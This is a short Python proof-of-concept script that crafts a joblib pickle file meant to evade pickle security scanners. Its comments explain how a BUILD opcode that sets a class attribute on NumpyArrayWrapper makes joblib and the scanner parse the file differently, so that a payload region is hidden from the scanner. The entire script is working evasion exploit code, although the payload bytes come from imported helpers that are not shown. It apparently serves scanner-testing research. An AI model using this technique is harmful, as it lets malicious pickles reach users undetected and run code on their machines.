from common import *
# BUILD on the imported class NumpyArrayWrapper itself, with a slot state: pickle's load_build
# runs setattr(NumpyArrayWrapper, 'numpy_array_alignment_bytes', 16), a CLASS attribute.
# A wrapper then made without __init__ (copyreg.__newobj__) whose state omits the attribute:
# joblib's getattr(self, "numpy_array_alignment_bytes", None) finds the class attribute (16)
# and reads a padding byte; the scanner sees no such attribute and reads none.
NAW = G('joblib.numpy_pickle','NumpyArrayWrapper')
patch = NAW + b'N}'+U('numpy_array_alignment_bytes')+b'K\x10s\x86b0'
N = 30
st = b'}('+U('subclass')+G('numpy','ndarray')+U('shape')+I(N)+b'\x85'+U('order')+U('C')+U('dtype')+dtype('u1')+U('allow_mmap')+b'\x89u'
W = G('copyreg','__newobj__')+b'('+NAW+b'tR'+st+b'b'
# after the BUILD: joblib reads pad byte P=0x54 ('T'), skips 84 bytes, reads 30, then payload.
# scanner: skips 30 bytes from 0. plain pass: BINSTRING at 0.
P = 0x54
j = 1+P+N
run('b6.joblib', b'\x80\x02'+patch+W+region(j,[0,N]))
